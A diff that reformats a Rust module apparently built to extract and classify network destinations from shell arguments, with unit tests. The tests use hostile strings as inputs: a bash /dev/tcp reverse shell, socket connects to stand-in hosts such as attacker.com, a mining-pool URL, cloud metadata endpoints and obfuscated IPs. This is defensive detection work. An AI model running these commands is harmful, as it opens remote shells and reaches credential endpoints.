@@ -16,11 +16,12 @@ use crate::Destination;
 /// Last labels that are file extensions far more often than TLDs, so
 /// `main.rs:42` or `config.yaml:3` is a source location, not `host:port`.
 const FILE_EXTS: &[&str] = &[
-    "py", "pyi", "pyc", "rs", "go", "js", "mjs", "cjs", "jsx", "ts", "tsx", "c", "h", "cc", "cpp", "cxx", "hpp", "hh",
-    "java", "kt", "kts", "scala", "rb", "php", "pl", "pm", "sh", "bash", "zsh", "fish", "ps1", "md", "rst", "txt",
-    "log", "json", "jsonl", "yaml", "yml", "toml", "ini", "cfg", "conf", "lock", "xml", "html", "htm", "css", "scss",
-    "sql", "csv", "tsv", "swift", "cs", "fs", "vue", "svelte", "lua", "jl", "ex", "exs", "erl", "hs", "ml", "dart",
-    "zig", "nim", "proto", "gradle", "tf", "env", "ipynb", "patch", "diff", "out", "err", "tmp", "bak", "test", "spec",
+    "py", "pyi", "pyc", "rs", "go", "js", "mjs", "cjs", "jsx", "ts", "tsx", "c", "h", "cc", "cpp",
+    "cxx", "hpp", "hh", "java", "kt", "kts", "scala", "rb", "php", "pl", "pm", "sh", "bash", "zsh",
+    "fish", "ps1", "md", "rst", "txt", "log", "json", "jsonl", "yaml", "yml", "toml", "ini", "cfg",
+    "conf", "lock", "xml", "html", "htm", "css", "scss", "sql", "csv", "tsv", "swift", "cs", "fs",
+    "vue", "svelte", "lua", "jl", "ex", "exs", "erl", "hs", "ml", "dart", "zig", "nim", "proto",
+    "gradle", "tf", "env", "ipynb", "patch", "diff", "out", "err", "tmp", "bak", "test", "spec",
 ];
 
 /// Words before `@x:` that are package-manager or digest syntax, not a host:
@@ -108,7 +109,11 @@ fn is_word(b: u8) -> bool {
 
 /// Bytes that end a URL in running text.
 fn is_url_end(b: u8) -> bool {
-    b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'`' | b'<' | b'>' | b'|' | b'(' | b')' | b';' | b',' | 0)
+    b.is_ascii_whitespace()
+        || matches!(
+            b,
+            b'"' | b'\'' | b'`' | b'<' | b'>' | b'|' | b'(' | b')' | b';' | b',' | 0
+        )
 }
 
 fn word_end(b: &[u8], mut i: usize) -> usize {
@@ -155,7 +160,9 @@ fn positional(arg: &str) -> Option<Destination> {
     let (host, after) = if rest.starts_with('[') {
         let close = rest.find(']')?;
         (&rest[..=close], &rest[close + 1..])
-    } else if rest.bytes().filter(|&b| b == b':').count() >= 2 && rest.split('%').next()?.parse::<Ipv6Addr>().is_ok() {
+    } else if rest.bytes().filter(|&b| b == b':').count() >= 2
+        && rest.split('%').next()?.parse::<Ipv6Addr>().is_ok()
+    {
         (rest, "")
     } else {
         let cut = rest.find([':', '/']).unwrap_or(rest.len());
@@ -164,7 +171,9 @@ fn positional(arg: &str) -> Option<Destination> {
     if host.is_empty() || host.starts_with('.') || host.starts_with('-') {
         return None;
     }
-    if (after.is_empty() || after.starts_with(':')) && SOCAT_TYPES.iter().any(|t| t.eq_ignore_ascii_case(host)) {
+    if (after.is_empty() || after.starts_with(':'))
+        && SOCAT_TYPES.iter().any(|t| t.eq_ignore_ascii_case(host))
+    {
         return None; // `TCP:10.0.0.1:4444`: the word scan finds the host
     }
     // nmap-style range `192.168.1.1-254`: the first address stands for it.
@@ -174,7 +183,11 @@ fn positional(arg: &str) -> Option<Destination> {
     };
     let info = analyze_host(host)?;
     // `dir/file` is a relative path, `example.com/x` is what curl calls a URL.
-    if after.starts_with('/') && info.ip.is_none() && !info.host.contains('.') && !info.host.ends_with("localhost") {
+    if after.starts_with('/')
+        && info.ip.is_none()
+        && !info.host.contains('.')
+        && !info.host.ends_with("localhost")
+    {
         return None;
     }
     let port = after.strip_prefix(':').and_then(parse_port);
@@ -190,7 +203,9 @@ fn scan_urls(arg: &str, found: &mut Vec<(usize, Destination)>, taken: &mut Vec<(
             continue; // a URL inside another's path or query is not where the connection goes
         }
         let mut start = pos;
-        while start > 0 && (b[start - 1].is_ascii_alphanumeric() || matches!(b[start - 1], b'+' | b'.' | b'-')) {
+        while start > 0
+            && (b[start - 1].is_ascii_alphanumeric() || matches!(b[start - 1], b'+' | b'.' | b'-'))
+        {
             start -= 1;
         }
         while start < pos && !b[start].is_ascii_alphabetic() {
@@ -202,7 +217,10 @@ fn scan_urls(arg: &str, found: &mut Vec<(usize, Destination)>, taken: &mut Vec<(
         let auth_start = pos + 3;
         let mut auth_end = auth_start;
         // `\` ends the authority as in WHATWG parsers: `http://evil.com\@good.com` goes to evil.com.
-        while auth_end < b.len() && !is_url_end(b[auth_end]) && !matches!(b[auth_end], b'/' | b'?' | b'#' | b'\\') {
+        while auth_end < b.len()
+            && !is_url_end(b[auth_end])
+            && !matches!(b[auth_end], b'/' | b'?' | b'#' | b'\\')
+        {
             auth_end += 1;
         }
         let mut end = auth_end;
@@ -310,7 +328,11 @@ fn scan_words(arg: &str, taken: &[(usize, usize)], found: &mut Vec<(usize, Desti
             continue;
         }
         let e = word_end(b, i);
-        i = if b.get(e) == Some(&b'@') { user_at_host(arg, i, e, found) } else { host_word(arg, i, e, found) };
+        i = if b.get(e) == Some(&b'@') {
+            user_at_host(arg, i, e, found)
+        } else {
+            host_word(arg, i, e, found)
+        };
     }
 }
 
@@ -326,7 +348,12 @@ fn plausible_v6(s: &str) -> bool {
 fn v6_dest(text: &str, addr: &str, port: Option<u16>) -> Option<Destination> {
     let v6: Ipv6Addr = addr.parse().ok()?;
     let (class, obfuscated) = classify_v6(&v6);
-    let info = HostInfo { host: v6.to_string(), class, ip: Some(v6.into()), obfuscated };
+    let info = HostInfo {
+        host: v6.to_string(),
+        class,
+        ip: Some(v6.into()),
+        obfuscated,
+    };
     Some(dest(info, port, None, text))
 }
 
@@ -380,7 +407,10 @@ fn bare_v6(arg: &str, i: usize) -> Option<(usize, Destination)> {
     }
     if e == addr_end && b.get(e) == Some(&b'%') {
         end = word_end(b, e + 1);
-    } else if e == addr_end && b.get(e).is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_') {
+    } else if e == addr_end
+        && b.get(e)
+            .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_')
+    {
         return None; // `f32::EPSILON`
     }
     Some((end, v6_dest(&arg[i..end], addr, None)?))
@@ -388,7 +418,9 @@ fn bare_v6(arg: &str, i: usize) -> Option<(usize, Destination)> {
 
 fn is_localhost(w: &str) -> bool {
     w.eq_ignore_ascii_case("localhost")
-        || (w.len() > 10 && w.as_bytes()[w.len() - 10] == b'.' && w[w.len() - 9..].eq_ignore_ascii_case("localhost"))
+        || (w.len() > 10
+            && w.as_bytes()[w.len() - 10] == b'.'
+            && w[w.len() - 9..].eq_ignore_ascii_case("localhost"))
 }
 
 /// A dotted name with an alphabetic TLD that is not a file extension.
@@ -454,7 +486,8 @@ fn quoted_port(arg: &str, s: usize, e: usize) -> Option<(u16, usize, usize)> {
 fn version_context(b: &[u8], s: usize) -> bool {
     let p1 = s.checked_sub(1).map(|i| b[i]);
     let p2 = s.checked_sub(2).map(|i| b[i]);
-    matches!(p1, Some(b'~' | b'^')) || (p1 == Some(b'=') && matches!(p2, Some(b'=' | b'<' | b'>' | b'~' | b'!')))
+    matches!(p1, Some(b'~' | b'^'))
+        || (p1 == Some(b'=') && matches!(p2, Some(b'=' | b'<' | b'>' | b'~' | b'!')))
 }
 
 /// A word in `b[s..e]` that is not followed by `@`. Returns where to resume.
@@ -588,7 +621,11 @@ mod tests {
 
     fn check(arg: &str, host: &str, port: Option<u16>, class: DestClass) -> Destination {
         let d = one(arg, false);
-        assert_eq!((d.host.as_str(), d.port, d.class), (host, port, class), "{arg:?}");
+        assert_eq!(
+            (d.host.as_str(), d.port, d.class),
+            (host, port, class),
+            "{arg:?}"
+        );
         d
     }
 
@@ -599,23 +636,63 @@ mod tests {
 
     #[test]
     fn urls() {
-        let d = check("http://169.254.169.254/latest/meta-data/", "169.254.169.254", None, Metadata);
+        let d = check(
+            "http://169.254.169.254/latest/meta-data/",
+            "169.254.169.254",
+            None,
+            Metadata,
+        );
         assert_eq!(d.scheme.as_deref(), Some("http"));
         assert_eq!(d.text, "http://169.254.169.254/latest/meta-data/");
         assert!(!d.obfuscated_ip);
-        let d = check("https://user:pw@Example.COM:8443/x?y=1#z", "example.com", Some(8443), Public);
+        let d = check(
+            "https://user:pw@Example.COM:8443/x?y=1#z",
+            "example.com",
+            Some(8443),
+            Public,
+        );
         assert_eq!(d.scheme.as_deref(), Some("https"));
-        let d = check("stratum+tcp://pool.minexmr.com:4444", "pool.minexmr.com", Some(4444), Public);
+        let d = check(
+            "stratum+tcp://pool.minexmr.com:4444",
+            "pool.minexmr.com",
+            Some(4444),
+            Public,
+        );
         assert_eq!(d.scheme.as_deref(), Some("stratum+tcp"));
-        check("ssh://git@host.internal:2222/repo.git", "host.internal", Some(2222), Private);
+        check(
+            "ssh://git@host.internal:2222/repo.git",
+            "host.internal",
+            Some(2222),
+            Private,
+        );
         check("http://[::1]:8080/", "::1", Some(8080), Loopback);
-        check("http://[fd00:ec2::254]/latest", "fd00:ec2::254", None, Metadata);
-        check("http://[::ffff:169.254.169.254]/", "::ffff:169.254.169.254", None, Metadata);
+        check(
+            "http://[fd00:ec2::254]/latest",
+            "fd00:ec2::254",
+            None,
+            Metadata,
+        );
+        check(
+            "http://[::ffff:169.254.169.254]/",
+            "::ffff:169.254.169.254",
+            None,
+            Metadata,
+        );
         check("http://localhost:3000", "localhost", Some(3000), Loopback);
-        check("http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal", None, Metadata);
+        check(
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "metadata.google.internal",
+            None,
+            Metadata,
+        );
         check("HTTP://LOCALHOST./", "localhost", None, Loopback);
         check("url=http://10.0.0.5/x", "10.0.0.5", None, Private);
-        check("jdbc:mysql://db.internal:3306/app", "db.internal", Some(3306), Private);
+        check(
+            "jdbc:mysql://db.internal:3306/app",
+            "db.internal",
+            Some(3306),
+            Private,
+        );
         check("http://localhost:$PORT/", "localhost", None, Loopback);
     }
 
@@ -642,9 +719,19 @@ mod tests {
         let d = check("http://127.1:8000/", "127.0.0.1", Some(8000), Loopback);
         assert!(d.obfuscated_ip);
         check("http://0/", "0.0.0.0", None, Unspecified);
-        check("http://169.254.169.254.nip.io/", "169.254.169.254.nip.io", None, Metadata);
+        check(
+            "http://169.254.169.254.nip.io/",
+            "169.254.169.254.nip.io",
+            None,
+            Metadata,
+        );
         // A URL nested in another's query is not a second connection.
-        check("https://example.com/redirect?to=http://10.0.0.1/", "example.com", None, Public);
+        check(
+            "https://example.com/redirect?to=http://10.0.0.1/",
+            "example.com",
+            None,
+            Public,
+        );
     }
 
     #[test]
@@ -661,17 +748,37 @@ mod tests {
 
     #[test]
     fn several_in_one_arg_in_order() {
-        let v = extract("curl http://a.example.com/x && wget https://10.1.1.1:8443/y; nc 0.0.0.0:4444", false);
+        let v = extract(
+            "curl http://a.example.com/x && wget https://10.1.1.1:8443/y; nc 0.0.0.0:4444",
+            false,
+        );
         let got: Vec<_> = v.iter().map(|d| (d.host.as_str(), d.port)).collect();
-        assert_eq!(got, [("a.example.com", None), ("10.1.1.1", Some(8443)), ("0.0.0.0", Some(4444))]);
+        assert_eq!(
+            got,
+            [
+                ("a.example.com", None),
+                ("10.1.1.1", Some(8443)),
+                ("0.0.0.0", Some(4444))
+            ]
+        );
     }
 
     #[test]
     fn dev_tcp() {
-        let d = check("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "10.0.0.1", Some(4242), Private);
+        let d = check(
+            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            "10.0.0.1",
+            Some(4242),
+            Private,
+        );
         assert_eq!(d.text, "/dev/tcp/10.0.0.1/4242");
         assert_eq!(d.scheme, None);
-        check("exec 3<>/dev/udp/attacker.com/53", "attacker.com", Some(53), Public);
+        check(
+            "exec 3<>/dev/udp/attacker.com/53",
+            "attacker.com",
+            Some(53),
+            Public,
+        );
         let d = check("/dev/tcp/2130706433/80", "127.0.0.1", Some(80), Loopback);
         assert!(d.obfuscated_ip);
         none("/dev/tcp/$HOST/$PORT");
@@ -686,7 +793,12 @@ mod tests {
         check("root@192.168.1.10", "192.168.1.10", None, Private);
         check("postgres@localhost", "localhost", None, Loopback);
         check("admin@[fe80::1]", "fe80::1", None, LinkLocal);
-        check("user:secret@proxy.example.com:3128", "proxy.example.com", Some(3128), Public);
+        check(
+            "user:secret@proxy.example.com:3128",
+            "proxy.example.com",
+            Some(3128),
+            Public,
+        );
         // Not destinations: emails, package versions, digests, yarn/npm protocols, git reflog.
         none("someone@example.com");
         none("--author=A <a@b.com>");
@@ -701,15 +813,35 @@ mod tests {
 
     #[test]
     fn host_port() {
-        check("pool.example.com:3333", "pool.example.com", Some(3333), Public);
-        check("-o pool.example.com:3333", "pool.example.com", Some(3333), Public);
-        check("--proxy=evil.example.net:8080", "evil.example.net", Some(8080), Public);
+        check(
+            "pool.example.com:3333",
+            "pool.example.com",
+            Some(3333),
+            Public,
+        );
+        check(
+            "-o pool.example.com:3333",
+            "pool.example.com",
+            Some(3333),
+            Public,
+        );
+        check(
+            "--proxy=evil.example.net:8080",
+            "evil.example.net",
+            Some(8080),
+            Public,
+        );
         check("10.0.0.1:22", "10.0.0.1", Some(22), Private);
         check("0.0.0.0:8000", "0.0.0.0", Some(8000), Unspecified);
         check("localhost:8080", "localhost", Some(8080), Loopback);
         check("localhost:", "localhost", None, Loopback);
         check("api.localhost:5000", "api.localhost", Some(5000), Loopback);
-        check("backup.example.com:/srv/data", "backup.example.com", None, Public);
+        check(
+            "backup.example.com:/srv/data",
+            "backup.example.com",
+            None,
+            Public,
+        );
         none("example.com:99999");
         none("HOST:PORT");
         none("example.com:PORT");
@@ -719,12 +851,42 @@ mod tests {
 
     #[test]
     fn code_strings() {
-        check(r#"s.connect(("10.0.0.1",4242))"#, "10.0.0.1", Some(4242), Private);
-        check(r#"$sock=fsockopen("attacker.com",12345);"#, "attacker.com", Some(12345), Public);
-        check("socket.create_connection(('evil.example.org', 443))", "evil.example.org", Some(443), Public);
-        check(r#"net.connect(4444, "attacker.io", () => {})"#, "attacker.io", Some(4444), Public);
-        check(r#"TCPSocket.new("localhost",1337)"#, "localhost", Some(1337), Loopback);
-        check(r#"new Socket("192.168.0.9", 9001)"#, "192.168.0.9", Some(9001), Private);
+        check(
+            r#"s.connect(("10.0.0.1",4242))"#,
+            "10.0.0.1",
+            Some(4242),
+            Private,
+        );
+        check(
+            r#"$sock=fsockopen("attacker.com",12345);"#,
+            "attacker.com",
+            Some(12345),
+            Public,
+        );
+        check(
+            "socket.create_connection(('evil.example.org', 443))",
+            "evil.example.org",
+            Some(443),
+            Public,
+        );
+        check(
+            r#"net.connect(4444, "attacker.io", () => {})"#,
+            "attacker.io",
+            Some(4444),
+            Public,
+        );
+        check(
+            r#"TCPSocket.new("localhost",1337)"#,
+            "localhost",
+            Some(1337),
+            Loopback,
+        );
+        check(
+            r#"new Socket("192.168.0.9", 9001)"#,
+            "192.168.0.9",
+            Some(9001),
+            Private,
+        );
         let d = one(r#"s.connect(("attacker.com",4242))"#, false);
         assert_eq!(d.text, r#""attacker.com",4242"#);
         none(r#"open("data.json", 5)"#);
@@ -815,13 +977,17 @@ mod tests {
     /// delimiter, must never panic (all slicing is at ASCII positions).
     #[test]
     fn no_panics_on_noise() {
-        let alphabet: Vec<char> = "a1.:@/[]%\"',-_ x0f\u{e9}\u{3002}\u{ff11}\u{1f600}".chars().collect();
+        let alphabet: Vec<char> = "a1.:@/[]%\"',-_ x0f\u{e9}\u{3002}\u{ff11}\u{1f600}"
+            .chars()
+            .collect();
         let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
         for _ in 0..5_000 {
             let len = (seed >> 60) as usize + 1;
             let mut s = String::new();
             for _ in 0..len * 2 {
-                seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+                seed = seed
+                    .wrapping_mul(6364136223846793005)
+                    .wrapping_add(1442695040888963407);
                 s.push(alphabet[(seed >> 33) as usize % alphabet.len()]);
             }
             for prefix in ["", "http://", "u@", "/dev/tcp/"] {
@@ -836,14 +1002,23 @@ mod tests {
     #[test]
     fn positional_hosts() {
         let d = one("attacker.com", true);
-        assert_eq!((d.host.as_str(), d.class, d.port), ("attacker.com", Public, None));
+        assert_eq!(
+            (d.host.as_str(), d.class, d.port),
+            ("attacker.com", Public, None)
+        );
         assert_eq!(one("myserver", true).host, "myserver");
         assert_eq!(one("localhost", true).class, Loopback);
         let d = one("root@10.0.0.7:2222", true);
-        assert_eq!((d.host.as_str(), d.port, d.class), ("10.0.0.7", Some(2222), Private));
+        assert_eq!(
+            (d.host.as_str(), d.port, d.class),
+            ("10.0.0.7", Some(2222), Private)
+        );
         assert_eq!(d.text, "root@10.0.0.7:2222");
         let d = one("2130706433", true);
-        assert_eq!((d.host.as_str(), d.class, d.obfuscated_ip), ("127.0.0.1", Loopback, true));
+        assert_eq!(
+            (d.host.as_str(), d.class, d.obfuscated_ip),
+            ("127.0.0.1", Loopback, true)
+        );
         assert_eq!(one("0x7f000001", true).host, "127.0.0.1");
         assert_eq!(one("127.1", true).host, "127.0.0.1");
         assert_eq!(one("0", true).class, Unspecified);
@@ -853,7 +1028,10 @@ mod tests {
         assert_eq!(one("host.example:/tmp", true).host, "host.example");
         assert_eq!(one("METADATA.GOOGLE.INTERNAL.", true).class, Metadata);
         let d = one("ssh://me@box.lan:22", true);
-        assert_eq!((d.host.as_str(), d.scheme.as_deref()), ("box.lan", Some("ssh")));
+        assert_eq!(
+            (d.host.as_str(), d.scheme.as_deref()),
+            ("box.lan", Some("ssh"))
+        );
         assert_eq!(one("192.168.1.1-254", true).class, Private);
         assert_eq!(one("10.0.0.0/24", true).host, "10.0.0.0");
         // socat addresses: the keyword is not a host, the word scan finds the real one.
@@ -864,14 +1042,27 @@ mod tests {
         for not_host in ["EXEC:/bin/bash", "TCP-LISTEN:4444,fork", "STDIO", "exec:sh"] {
             assert!(extract(not_host, true).is_empty(), "{not_host:?}");
         }
-        for not_host in ["-p", "--", "", "./a", "/etc/hosts", "dir/file", "$HOST", "<host>", "[host]"] {
+        for not_host in [
+            "-p",
+            "--",
+            "",
+            "./a",
+            "/etc/hosts",
+            "dir/file",
+            "$HOST",
+            "<host>",
+            "[host]",
+        ] {
             assert!(extract(not_host, true).is_empty(), "{not_host:?}");
         }
     }
 
     #[test]
     fn hosts_helper_lists_all() {
-        assert_eq!(hosts("scp a.txt root@10.0.0.2:/tmp && curl http://x.example/"), ["10.0.0.2", "x.example"]);
+        assert_eq!(
+            hosts("scp a.txt root@10.0.0.2:/tmp && curl http://x.example/"),
+            ["10.0.0.2", "x.example"]
+        );
         assert!(hosts("ls -la").is_empty());
     }
 
@@ -888,7 +1079,14 @@ mod tests {
         let many = "http://a.example ".repeat(10_000);
         assert_eq!(extract(&many, false).len(), 10_000);
         // Non-ASCII around and inside words must not panic on slicing.
-        for s in ["é@ü:1", "ü.example.com:80", "[é]", "１２７。０。０。１:80", "a@[é", "\u{0}:\u{0}"] {
+        for s in [
+            "é@ü:1",
+            "ü.example.com:80",
+            "[é]",
+            "１２７。０。０。１:80",
+            "a@[é",
+            "\u{0}:\u{0}",
+        ] {
             let _ = extract(s, false);
             let _ = extract(s, true);
         }
